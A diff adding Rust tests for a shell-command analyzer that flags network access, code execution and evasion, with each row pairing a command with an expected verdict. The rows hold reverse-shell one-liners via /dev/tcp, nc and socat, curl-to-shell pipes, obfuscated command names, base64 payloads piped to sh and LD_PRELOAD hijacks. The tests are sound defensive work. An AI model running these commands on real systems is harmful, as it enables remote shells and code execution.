@@ -1,0 +1,603 @@
+//! One test per feature of the analyzer issue: each row is a command, the
+//! verdict it must get, and rule ids that must be among its findings.
+
+use bashgate_analyzer::{analyze, Verdict};
+
+use Verdict::{Network as N, Safe as S, Unknown as U};
+
+/// Checks every row and reports all failures at once.
+fn table(rows: &[(&str, Verdict, &[&str])]) {
+    let mut wrong = Vec::new();
+    for (cmd, want, rules) in rows {
+        let a = analyze(cmd);
+        let ids: Vec<&str> = a.findings.iter().map(|f| f.rule.id()).collect();
+        let missing: Vec<&&str> = rules.iter().filter(|r| !ids.contains(r)).collect();
+        if a.verdict != *want || !missing.is_empty() {
+            wrong.push(format!(
+                "{cmd:?}: want {want} {rules:?}, got {} {ids:?}\n    {:?}",
+                a.verdict,
+                a.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(
+        wrong.is_empty(),
+        "{} of {} rows wrong:\n{}",
+        wrong.len(),
+        rows.len(),
+        wrong.join("\n")
+    );
+}
+
+#[test]
+fn names_after_quote_removal() {
+    table(&[
+        (r#""curl" x"#, N, &["BG101"]),
+        ("'curl' x", N, &["BG101"]),
+        (r#"c"u"rl x"#, N, &["BG101"]),
+        (r"c\url x", N, &["BG101"]),
+        (r"\curl x", N, &["BG101"]),
+        ("cu''rl x", N, &["BG101"]),
+        (r#"cu""rl x"#, N, &["BG101"]),
+        (r"$'\x63url' x", N, &["BG101"]),
+        (r"$'\143url' x", N, &["BG101"]),
+        (r"$'\u0063url' x", N, &["BG101"]),
+        (r"$'\U00000063url' x", N, &["BG101"]),
+        (r"$'c\x75rl' x", N, &["BG101"]),
+        ("/usr/bin/curl x", N, &["BG101"]),
+        ("/bin/nc -e sh h 1", N, &["BG101"]),
+        ("./cat README.md", U, &["BG202"]),
+        ("bin/grep x", U, &["BG202"]),
+        ("/tmp/ls", U, &["BG202"]),
+        ("~/bin/ls", U, &["BG202"]),
+        (r#""ls" -la"#, S, &[]),
+        ("'echo' hi", S, &[]),
+        ("/usr/bin/cat f", S, &[]),
+        (r#""" x"#, U, &["BG201"]),
+    ]);
+}
+
+#[test]
+fn dynamic_names() {
+    table(&[
+        ("$x evil.com", U, &["BG302"]),
+        ("${x} evil.com", U, &["BG302"]),
+        ("$a$b evil.com", U, &["BG302"]),
+        ("$(echo curl) evil.com", U, &["BG302"]),
+        ("`echo curl` evil.com", U, &["BG302"]),
+        ("${cmd[@]}", U, &["BG302"]),
+        ("{curl,evil.com}", U, &["BG301"]),
+        ("c{u,}rl evil.com", U, &["BG302"]),
+        ("curl$IFS-x", U, &["BG302"]),
+        ("c*rl x", U, &["BG302"]),
+        ("/usr/bin/c?rl x", U, &["BG302"]),
+        (r#"$"curl" x"#, U, &["BG302"]),
+        ("echo $x ${y:-z} $(date)", S, &[]),
+        ("echo $HOME ${PWD} \"$@\"", S, &[]),
+    ]);
+}
+
+#[test]
+fn every_place_code_runs() {
+    table(&[
+        ("ls | curl x", N, &["BG101"]),
+        ("ls && curl x", N, &["BG101"]),
+        ("ls || curl x", N, &["BG101"]),
+        ("ls; curl x", N, &["BG101"]),
+        ("curl x & ls", N, &["BG101"]),
+        ("(curl x)", N, &["BG101"]),
+        ("{ curl x; }", N, &["BG101"]),
+        ("if curl x; then ls; fi", N, &["BG101"]),
+        (
+            "if ls; then :; elif true; then :; else curl x; fi",
+            N,
+            &["BG101"],
+        ),
+        ("while curl x; do :; done", N, &["BG101"]),
+        ("until ls; do curl x; done", N, &["BG101"]),
+        ("for i in a b; do curl $i; done", N, &["BG101"]),
+        ("for ((i=0;i<3;i++)); do curl x; done", N, &["BG101"]),
+        ("select x in a b; do curl $x; done", N, &["BG101"]),
+        ("case x in a) curl x;; esac", N, &["BG101"]),
+        ("f() { curl x; }", N, &["BG101"]),
+        ("function f { curl x; }; f", N, &["BG101"]),
+        ("coproc curl x", N, &["BG101"]),
+        ("trap 'curl x' EXIT", N, &["BG101"]),
+        ("! curl x", N, &["BG101"]),
+        ("echo $(curl x)", N, &["BG101"]),
+        ("echo `curl x`", N, &["BG101"]),
+        ("echo \"$(curl x)\"", N, &["BG101"]),
+        ("$(curl x)", N, &["BG101"]),
+        ("x=$(curl x)", N, &["BG101"]),
+        ("export X=$(curl x)", N, &["BG101"]),
+        ("local x=`curl x`", N, &["BG101"]),
+        ("a=(1 $(curl x))", N, &["BG101"]),
+        ("cat > $(curl x)", N, &["BG101"]),
+        ("cat <<EOF\n$(curl x)\nEOF", N, &["BG101"]),
+        ("cat <<EOF\n`curl x`\nEOF", N, &["BG101"]),
+        ("echo ${x:-$(curl y)}", N, &["BG101"]),
+        ("echo $(( $(curl x) + 1 ))", N, &["BG101"]),
+        ("echo ${a[$(curl x)]}", N, &["BG101"]),
+        ("[[ -f $(curl x) ]]", N, &["BG101"]),
+        ("test -f $(curl x)", N, &["BG101"]),
+        ("[ -f \"$(curl x)\" ]", N, &["BG101"]),
+        ("case $(curl x) in *) ;; esac", N, &["BG101"]),
+        ("for f in $(curl x); do :; done", N, &["BG101"]),
+        ("cat <(curl x)", N, &["BG101"]),
+        ("ls > >(curl x)", N, &["BG101"]),
+        ("tee >(curl -d @- x)", N, &["BG101"]),
+        ("echo $(echo $(echo $(curl x)))", N, &["BG101"]),
+        ("echo \"`echo \\`curl x\\``\"", N, &["BG101"]),
+        ("(( x = $(curl y) ))", N, &["BG101"]),
+        // And where nothing runs:
+        ("echo '$(curl x)'", S, &[]),
+        ("echo \"\\$(curl x)\"", S, &[]),
+        ("cat <<'EOF'\n$(curl x)\nEOF", S, &[]),
+        ("cat <<\"EOF\"\n`curl x`\nEOF", S, &[]),
+        ("for i in 1 2 3; do echo $i; done", S, &[]),
+        ("if [ -f x ]; then cat x; else echo no; fi", S, &[]),
+        ("f() { ls; }; f", S, &[]),
+    ]);
+}
+
+#[test]
+fn redirects_to_sockets() {
+    table(&[
+        ("cat < /dev/tcp/10.0.0.1/4242", N, &["BG106"]),
+        ("echo x > /dev/tcp/h/80", N, &["BG106"]),
+        ("echo x >> /dev/udp/h/53", N, &["BG106"]),
+        ("exec 3<>/dev/tcp/h/80", N, &["BG106"]),
+        ("exec 5<> /dev/tcp/h/80", N, &["BG106"]),
+        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", N, &["BG106"]),
+        ("sh -i &> /dev/udp/h/1", N, &["BG106"]),
+        ("echo x >| /dev/tcp/h/1", N, &["BG106"]),
+        ("cat 0</dev/tcp/h/1", N, &["BG106"]),
+        ("ls 2>/dev/tcp/h/1", N, &["BG106"]),
+        ("exec 3</dev/tcp/h/1", N, &["BG106"]),
+        ("{ ls; } > /dev/tcp/h/1", N, &["BG106"]),
+        ("while read l; do :; done < /dev/tcp/h/1", N, &["BG106"]),
+        ("f() { ls; } > /dev/tcp/h/1", N, &["BG106"]),
+        ("echo x > \"/dev/tcp/h/1\"", N, &["BG106"]),
+        ("echo x > /dev/'tcp'/h/1", N, &["BG106"]),
+        ("echo x > //dev/tcp/h/1", N, &["BG106"]),
+        ("cat < $(echo /dev/tcp/h/1)", U, &["BG308"]),
+        ("echo x > $dest", U, &["BG308"]),
+        ("echo x > /dev/$p/h/1", U, &["BG308"]),
+        ("echo x > out/$name", S, &[]),
+        ("echo x > /tmp/$name", S, &[]),
+        ("ls > out.txt 2>&1", S, &[]),
+        ("ls 2>/dev/null", S, &[]),
+        ("echo /dev/tcp/h/1", S, &[]),
+        ("grep -r /dev/tcp .", S, &[]),
+        ("cat < <(ls)", S, &[]),
+        // A grammar gap: `<>` leaves an ERROR node; never safe.
+        ("cat <> file", U, &["BG301"]),
+    ]);
+}
+
+#[test]
+fn heredocs_and_herestrings_fed_to_shells() {
+    table(&[
+        ("bash <<EOF\ncurl x\nEOF", N, &["BG101"]),
+        ("sh <<'EOF'\ncurl x\nEOF", N, &["BG101"]),
+        ("bash <<-EOF\n\tcurl x\n\tEOF", N, &["BG101"]),
+        ("bash <<< 'curl x'", N, &["BG101"]),
+        ("sh <<< \"wget y\"", N, &["BG101"]),
+        ("bash <<'EOF'\nls -la\nEOF", S, &[]),
+        ("bash <<< 'echo hi'", S, &[]),
+        ("bash <<EOF\n$cmd\nEOF", U, &["BG306"]),
+        ("bash <<EOF\necho \\\"; curl x; \\\"\nEOF", N, &["BG101"]),
+        ("python3 <<EOF\nprint(1)\nEOF", N, &["BG104"]),
+        ("cat <<EOF | sh\nls\nEOF", U, &["BG207"]),
+        ("bash < script.sh", U, &["BG203"]),
+        ("cat script.sh | bash", U, &["BG207"]),
+        ("bash", U, &["BG207"]),
+        ("curl -s x | sh", N, &["BG105"]),
+        ("wget -qO- x | bash -s -- arg", N, &["BG105"]),
+        ("curl x | tee log | sudo bash", N, &["BG105"]),
+        ("curl x | python3", N, &["BG104"]),
+        ("echo Y3VybA== | base64 -d | sh", U, &["BG208"]),
+        ("echo 6375726c | xxd -r -p | bash", U, &["BG208"]),
+        ("echo 'lru' | rev | sh", U, &["BG208"]),
+        ("gunzip -c x.gz | sh", U, &["BG208"]),
+    ]);
+}
+
+#[test]
+fn wrappers() {
+    table(&[
+        ("env curl x", N, &["BG101"]),
+        ("env -i curl x", N, &["BG101"]),
+        ("env -u HOME curl x", N, &["BG101"]),
+        ("env --unset=HOME curl x", N, &["BG101"]),
+        ("env -- curl x", N, &["BG101"]),
+        ("env A=1 B=2 curl x", N, &["BG101"]),
+        ("env -S 'curl x'", N, &["BG101"]),
+        ("env -C /tmp curl x", N, &["BG101"]),
+        ("env", S, &[]),
+        ("env ls", S, &[]),
+        ("sudo curl x", N, &["BG101"]),
+        ("sudo -u root -g wheel curl x", N, &["BG101"]),
+        ("sudo -E -H curl x", N, &["BG101"]),
+        ("sudo -l", S, &[]),
+        ("sudo -s", U, &["BG207"]),
+        ("doas curl x", N, &["BG101"]),
+        ("su -c 'curl x' root", N, &["BG101"]),
+        ("su root -c 'curl x'", N, &["BG101"]),
+        ("su - root", U, &["BG207"]),
+        ("runuser -u nobody -- curl x", N, &["BG101"]),
+        ("runuser nobody -c 'curl x'", N, &["BG101"]),
+        ("nice curl x", N, &["BG101"]),
+        ("nice -n 10 curl x", N, &["BG101"]),
+        ("nice -10 curl x", N, &["BG101"]),
+        ("nohup curl x &", N, &["BG101"]),
+        ("timeout 5 curl x", N, &["BG101"]),
+        ("timeout -s KILL -k 1 5 curl x", N, &["BG101"]),
+        ("timeout --signal=TERM 5 curl x", N, &["BG101"]),
+        ("timeout 5 ls", S, &[]),
+        ("stdbuf -oL curl x", N, &["BG101"]),
+        ("stdbuf -o L curl x", N, &["BG101"]),
+        ("command curl x", N, &["BG101"]),
+        ("command -p curl x", N, &["BG101"]),
+        ("command -v curl", S, &[]),
+        ("builtin eval 'curl x'", N, &["BG101"]),
+        ("exec curl x", N, &["BG101"]),
+        ("exec -a name curl x", N, &["BG101"]),
+        ("time curl x", N, &["BG101"]),
+        ("time -p ls", S, &[]),
+        ("setsid curl x", N, &["BG101"]),
+        ("setsid -f curl x", N, &["BG101"]),
+        ("ionice -c 3 curl x", N, &["BG101"]),
+        ("ionice -p 123", S, &[]),
+        ("chrt -f 10 curl x", N, &["BG101"]),
+        ("taskset 0x1 curl x", N, &["BG101"]),
+        ("taskset -c 0 curl x", N, &["BG101"]),
+        ("taskset -p 123", S, &[]),
+        ("flock /tmp/l curl x", N, &["BG101"]),
+        ("flock /tmp/l -c 'curl x'", N, &["BG101"]),
+        ("flock -w 5 /tmp/l -c 'ls'", S, &[]),
+        ("script -q -c 'curl x' /dev/null", N, &["BG101"]),
+        ("script -c 'ls' out.log", S, &[]),
+        ("script", U, &["BG207"]),
+        ("watch curl x", N, &["BG101"]),
+        ("watch -n 1 'ls; curl x'", N, &["BG101"]),
+        ("watch -x curl x", N, &["BG101"]),
+        ("watch -n 2 ls", S, &[]),
+        ("strace curl x", N, &["BG101"]),
+        ("strace -f -o log curl x", N, &["BG101"]),
+        ("ltrace curl x", N, &["BG101"]),
+        ("busybox nc h 1", N, &["BG101"]),
+        ("busybox wget x", N, &["BG101"]),
+        ("busybox sh -c 'curl x'", N, &["BG101"]),
+        ("busybox ls", S, &[]),
+        ("xargs curl", N, &["BG101"]),
+        ("xargs -0 curl", N, &["BG101"]),
+        ("xargs -n 1 -P 4 curl", N, &["BG101"]),
+        ("xargs -I{} curl {}", N, &["BG101"]),
+        ("xargs -I % sh -c 'curl %'", U, &["BG306"]),
+        ("xargs -i curl {}", N, &["BG101"]),
+        ("xargs --max-args=1 curl", N, &["BG101"]),
+        ("xargs -d '\\n' -r curl", N, &["BG101"]),
+        ("xargs", S, &[]),
+        ("ls | xargs wc -l", S, &[]),
+        ("xargs rg --pre x", U, &["BG204"]),
+        ("xargs rg pattern", U, &["BG210"]),
+        ("find . -exec curl {} \\;", N, &["BG101"]),
+        ("find . -execdir curl {} +", N, &["BG101"]),
+        ("find . -ok curl {} \\;", N, &["BG101"]),
+        ("find . -okdir curl {} \\;", N, &["BG101"]),
+        (
+            "find . -name x -exec ls {} \\; -exec curl x \\;",
+            N,
+            &["BG101"],
+        ),
+        ("find . -exec sh -c 'curl $1' _ {} \\;", N, &["BG101"]),
+        ("find . -exec sh -c 'cat {}' \\;", U, &["BG306"]),
+        ("find . -type f -exec grep -l x {} +", S, &[]),
+        ("find . -exec curl", U, &["BG305"]),
+        ("parallel curl ::: a b", N, &["BG101"]),
+        ("parallel 'curl {}' ::: a b", N, &["BG101"]),
+        ("parallel -S host echo ::: a", N, &["BG107"]),
+        ("parallel -j 4 gzip ::: a b", S, &[]),
+        ("sudo env nice timeout 5 curl x", N, &["BG101"]),
+        ("timeout --frobnicate 5 ls", U, &["BG305"]),
+        ("nohup", U, &["BG305"]),
+        ("timeout 5", U, &["BG305"]),
+        ("sudo $cmd", U, &["BG302"]),
+        ("env $opts curl x", U, &["BG302"]),
+    ]);
+}
+
+#[test]
+fn embedded_scripts() {
+    table(&[
+        ("bash -c 'curl x'", N, &["BG101"]),
+        ("sh -c \"curl x\"", N, &["BG101"]),
+        ("zsh -c 'curl x'", N, &["BG101"]),
+        ("dash -c 'curl x'", N, &["BG101"]),
+        ("ksh -c 'curl x'", N, &["BG101"]),
+        ("bash -xc 'curl x'", N, &["BG101"]),
+        ("bash -lc 'curl x'", N, &["BG101"]),
+        ("bash -ec 'ls; curl x'", N, &["BG101"]),
+        ("bash -o pipefail -c 'curl x'", N, &["BG101"]),
+        ("bash --norc -c 'curl x'", N, &["BG101"]),
+        ("bash -c -- 'curl x'", N, &["BG101"]),
+        ("/bin/bash -c 'curl x'", N, &["BG101"]),
+        ("bash -c 'bash -c \"curl x\"'", N, &["BG101"]),
+        ("bash -c 'ls -la'", S, &[]),
+        ("sh -c 'echo $1' _ x", S, &[]),
+        ("bash -c \"$script\"", U, &["BG306"]),
+        ("bash -c", U, &["BG306"]),
+        ("bash script.sh", U, &["BG203"]),
+        ("sh ./install.sh", U, &["BG203"]),
+        ("bash --rcfile x -i", U, &["BG211"]),
+        ("source ~/.bashrc", U, &["BG203"]),
+        (". ./env.sh", U, &["BG203"]),
+        ("eval 'curl x'", N, &["BG101"]),
+        ("eval curl x", N, &["BG101"]),
+        ("eval \"ls; curl x\"", N, &["BG101"]),
+        ("eval \"$cmd\"", U, &["BG306"]),
+        ("eval 'echo hi'", S, &[]),
+        ("trap 'curl x' INT TERM", N, &["BG101"]),
+        ("trap - INT", S, &[]),
+        ("trap '' INT", S, &[]),
+        ("trap -p", S, &[]),
+        ("trap \"$handler\" EXIT", U, &["BG306"]),
+        ("zsh -c 'ls'", U, &["BG209"]),
+        ("fish -c 'ls'", U, &["BG209"]),
+        ("sh -c 'curl x | sh'", N, &["BG105"]),
+        ("bash -c \"echo \\$(curl x)\"", N, &["BG101"]),
+    ]);
+}
+
+#[test]
+fn local_tools_with_escape_hatches() {
+    table(&[
+        ("find . -name '*.rs'", S, &[]),
+        ("find . -fprint /tmp/x", U, &["BG204"]),
+        ("find . -fprintf /tmp/x '%p'", U, &["BG204"]),
+        ("find . -fls /tmp/x", U, &["BG204"]),
+        ("find . -name '*.tmp' -delete", S, &["BG001"]),
+        ("find . $args", U, &["BG210"]),
+        ("sed -n '1,5p' f", S, &[]),
+        ("sed -i 's/a/b/g' f", S, &[]),
+        ("sed -e 's/a/b/' -e '/x/d' f", S, &[]),
+        ("sed 's/a/b/e' f", U, &["BG204"]),
+        ("sed -n '1e id' f", U, &["BG204"]),
+        ("sed --expression='e curl x' f", U, &["BG204"]),
+        ("sed -e 'w /dev/sda' f", U, &["BG204"]),
+        ("sed -f script.sed f", U, &["BG211"]),
+        ("sed \"$expr\" f", U, &["BG210"]),
+        ("sed --sandbox 's/a/b/e' f", S, &[]),
+        ("awk '{print $1}' f", S, &[]),
+        ("awk -F: '{print $1}' /etc/passwd", S, &[]),
+        ("awk '/a|b/ {n++} END {print n}' f", S, &[]),
+        ("awk 'BEGIN{system(\"curl x\")}'", U, &["BG204"]),
+        ("awk '{print | \"sh\"}' f", U, &["BG204"]),
+        ("awk 'BEGIN{\"id\" | getline x}'", U, &["BG204"]),
+        (
+            "gawk 'BEGIN{s=\"/inet/tcp/0/h/1\"; print \"x\" |& s}'",
+            N,
+            &["BG107"],
+        ),
+        ("awk -f prog.awk f", U, &["BG211"]),
+        ("awk --sandbox 'BEGIN{system(\"id\")}'", S, &[]),
+        ("tar czf a.tgz src", S, &[]),
+        ("tar xf a.tar --to-command='sh -c x'", U, &["BG204"]),
+        ("tar -I 'sh -c id' -xf a.tar", U, &["BG204"]),
+        ("tar --use-compress-program=zstd -xf a.tar", U, &["BG204"]),
+        (
+            "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
+            U,
+            &["BG204"],
+        ),
+        ("tar cf x.tar *", U, &["BG210"]),
+        ("tar cf x.tar src/*", S, &[]),
+        ("tar xf host:archive.tar", N, &["BG107"]),
+        ("sort -u f", S, &[]),
+        ("sort --compress-program=sh f", U, &["BG204"]),
+        ("sort --compress-prog=sh f", U, &["BG204"]),
+        ("split --filter='sh' f", U, &["BG204"]),
+        ("rg pattern src/", S, &[]),
+        ("rg --pre ./pre.sh x", U, &["BG204"]),
+        ("rg --pre=cat x", U, &["BG204"]),
+        ("rg --hostname-bin=x y", U, &["BG204"]),
+        ("git status", U, &["BG206"]),
+        ("git -c core.pager=sh log", U, &["BG204"]),
+        ("git clone https://x/y", N, &["BG102"]),
+        ("git -C repo fetch", N, &["BG102"]),
+        ("git push origin main", N, &["BG102"]),
+        ("less file", S, &[]),
+        ("less '+!curl x' file", U, &["BG204"]),
+        ("man ls", S, &[]),
+        ("man -P 'sh -c id' ls", U, &["BG204"]),
+        ("man --pager=sh ls", U, &["BG204"]),
+        ("vim file", N, &["BG104"]),
+        ("zip a.zip f", S, &[]),
+        ("zip a.zip f -T -TT 'sh -c id'", U, &["BG204"]),
+        ("zip --unzip-command=sh a.zip f", U, &["BG204"]),
+        ("make", U, &["BG206"]),
+        ("gdb -ex 'python import os' -batch", N, &["BG104"]),
+        ("LD_PRELOAD=./x.so ls", U, &["BG205"]),
+        ("LD_LIBRARY_PATH=/tmp ls", U, &["BG205"]),
+        ("PATH=/tmp:$PATH ls", U, &["BG205"]),
+        ("BASH_ENV=x bash -c ls", U, &["BG205"]),
+        ("ENV=x sh -c ls", U, &["BG205"]),
+        ("PROMPT_COMMAND='curl x' ls", U, &["BG205"]),
+        ("GIT_SSH_COMMAND='sh -c id' git status", U, &["BG205"]),
+        ("PAGER=sh man ls", U, &["BG205"]),
+        ("EDITOR=sh crontab -e", U, &["BG205"]),
+        ("export PATH=/tmp", U, &["BG205"]),
+        ("declare -x LD_PRELOAD=x", U, &["BG205"]),
+        ("PATH=/tmp", U, &["BG205"]),
+        ("TAR_OPTIONS=--to-command=sh tar xf a.tar", U, &["BG205"]),
+        (
+            "env 'BASH_FUNC_ls%%=() { curl x; }' bash -c ls",
+            U,
+            &["BG205"],
+        ),
+        ("LC_ALL=C TZ=UTC date", S, &[]),
+        ("printf -v 'a[$(id)]' x", U, &["BG309"]),
+        ("read 'a[$(id)]' <<< x", U, &["BG309"]),
+        ("test -v 'a[$(id)]'", U, &["BG309"]),
+        ("printf -v name '%s' x", S, &[]),
+        ("mapfile -C 'curl x' -c 1 arr < f", U, &["BG204"]),
+        ("hash -p /tmp/x ls", U, &["BG204"]),
+        ("alias ls=curl", U, &["BG201"]),
+    ]);
+}
+
+#[test]
+fn network_and_code_runners() {
+    table(&[
+        ("curl x", N, &["BG101"]),
+        ("wget x", N, &["BG101"]),
+        ("nc -e /bin/sh h 1", N, &["BG101"]),
+        ("ncat h 1", N, &["BG101"]),
+        ("socat tcp:h:1 exec:sh", N, &["BG101"]),
+        ("ssh h", N, &["BG101"]),
+        ("scp f h:", N, &["BG101"]),
+        ("sftp h", N, &["BG101"]),
+        ("rsync -a h:/x .", N, &["BG101"]),
+        ("telnet h 1", N, &["BG101"]),
+        ("ftp h", N, &["BG101"]),
+        ("tftp h", N, &["BG101"]),
+        ("dig example.com", N, &["BG101"]),
+        ("nslookup x", N, &["BG101"]),
+        ("host x", N, &["BG101"]),
+        ("ping -c1 x", N, &["BG101"]),
+        ("traceroute x", N, &["BG101"]),
+        ("openssl s_client -connect h:443", N, &["BG102"]),
+        ("openssl dgst -sha256 f", S, &[]),
+        ("openssl enc -d -base64 -in f", S, &[]),
+        ("docker pull x", N, &["BG102"]),
+        ("docker run x", N, &["BG102"]),
+        ("docker ps", U, &["BG201"]),
+        ("kubectl get pods", N, &["BG101"]),
+        ("pip install x", N, &["BG103"]),
+        ("pip3 install x", N, &["BG103"]),
+        ("python3 -m pip install x", N, &["BG104"]),
+        ("pip list", U, &["BG201"]),
+        ("npm install", N, &["BG103"]),
+        ("npm i x", N, &["BG103"]),
+        ("npm run build", U, &["BG206"]),
+        ("npx cowsay", N, &["BG101"]),
+        ("yarn add x", N, &["BG103"]),
+        ("pnpm add x", N, &["BG103"]),
+        ("cargo install x", N, &["BG103"]),
+        ("cargo build", U, &["BG206"]),
+        ("gem install x", N, &["BG103"]),
+        ("go get x", N, &["BG103"]),
+        ("go install x@latest", N, &["BG103"]),
+        ("apt install x", N, &["BG103"]),
+        ("apt-get -y install x", N, &["BG103"]),
+        ("apt-get update", N, &["BG103"]),
+        ("apk add x", N, &["BG103"]),
+        ("dnf install x", N, &["BG103"]),
+        ("yum install x", N, &["BG103"]),
+        ("brew install x", N, &["BG103"]),
+        ("python x.py", N, &["BG104"]),
+        ("python3.11 -c 1", N, &["BG104"]),
+        ("node -e 1", N, &["BG104"]),
+        ("perl -e 1", N, &["BG104"]),
+        ("ruby -e 1", N, &["BG104"]),
+        ("php -r 1", N, &["BG104"]),
+        ("lua -e 1", N, &["BG104"]),
+        ("tclsh x", N, &["BG104"]),
+        ("expect -c x", N, &["BG104"]),
+        ("Rscript -e 1", N, &["BG104"]),
+        ("deno run x", N, &["BG104"]),
+        ("bun x", N, &["BG104"]),
+    ]);
+}
+
+#[test]
+fn limits_and_bad_input() {
+    let deep = format!("{}curl x{}", "$(".repeat(300), ")".repeat(300));
+    let a = analyze(&deep);
+    assert_ne!(a.verdict, Verdict::Safe);
+    let embeds = format!("{}ls{}", "bash -c '".repeat(1), "'");
+    assert_eq!(analyze(&embeds).verdict, Verdict::Safe);
+    let mut nested = String::from("curl x");
+    for _ in 0..12 {
+        nested = format!("eval {}", shell_quote(&nested));
+    }
+    let a = analyze(&nested);
+    assert_ne!(a.verdict, Verdict::Safe, "deep eval chain");
+    assert!(
+        a.findings.iter().any(|f| f.rule.id() == "BG303"),
+        "{:?}",
+        a.findings
+    );
+
+    let huge = "ls ".repeat(40_000);
+    let a = analyze(&huge);
+    assert_eq!(a.verdict, Verdict::Unknown);
+    assert!(a.findings.iter().any(|f| f.rule.id() == "BG303"));
+
+    let long_pipe = vec!["cat"; 3000].join(" | ");
+    assert_ne!(analyze(&long_pipe).verdict, Verdict::Network);
+
+    let a = bashgate_analyzer::analyze_bytes(b"ls \xff\xfe");
+    assert_eq!(a.verdict, Verdict::Unknown);
+    assert!(a.findings.iter().any(|f| f.message.contains("UTF-8")));
+    let a = bashgate_analyzer::analyze_bytes(b"curl \xff");
+    assert_eq!(a.verdict, Verdict::Network);
+
+    for bad in [
+        "echo 'unterminated",
+        "if true; then",
+        "ls |",
+        "$(",
+        "((",
+        "case x in",
+        "}",
+    ] {
+        assert_eq!(analyze(bad).verdict, Verdict::Unknown, "{bad:?}");
+    }
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+#[test]
+fn findings_point_at_the_source() {
+    let cmd = "ls && bash -c 'echo hi; curl x'";
+    let a = analyze(cmd);
+    let f = a
+        .findings
+        .iter()
+        .find(|f| f.rule.id() == "BG101")
+        .expect("curl found");
+    assert_eq!(&cmd[f.span.start..f.span.end], "curl");
+    let cmd = "echo $(wget y)";
+    let f = analyze(cmd)
+        .findings
+        .into_iter()
+        .find(|f| f.rule.id() == "BG101")
+        .unwrap();
+    assert_eq!(&cmd[f.span.start..f.span.end], "wget");
+}
+
+#[test]
+fn invocations_are_resolved() {
+    let a = analyze("sudo -u x env A=1 nice -n 5 grep -r \"cu\"rl src/");
+    let grep = a
+        .invocations
+        .iter()
+        .find(|i| i.program.as_deref() == Some("grep"))
+        .expect("grep resolved");
+    assert_eq!(
+        grep.args,
+        vec![
+            Some("-r".to_string()),
+            Some("curl".to_string()),
+            Some("src/".to_string())
+        ]
+    );
+    assert_eq!(grep.via, vec!["sudo", "env", "nice"]);
+    assert_eq!(a.verdict, Verdict::Safe);
+    let a = analyze("cat $f");
+    assert_eq!(a.invocations[0].args, vec![None]);
+}
